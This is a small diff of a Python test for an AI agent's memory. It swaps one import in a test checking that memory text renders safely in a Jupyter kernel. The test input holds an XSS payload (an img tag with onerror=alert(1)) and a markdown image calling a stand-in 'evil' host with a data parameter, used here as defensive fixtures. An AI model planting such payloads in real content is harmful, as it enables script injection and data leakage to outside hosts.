@@ -234,7 +234,7 @@ def test_agent_memory_renders_markdown_safely_in_a_kernel_and_plain_text_in_the_
     import pytest
 
     pytest.importorskip("jupyter_client")
-    from test_magics import Kernel
+    from kernel_helpers import Kernel
 
     hostile = "**revenue** is net of [refunds](https://example.com/r) <img src=x onerror=alert(1)> ![t](http://evil/?d=1)"
     k = Kernel(tmp_path)
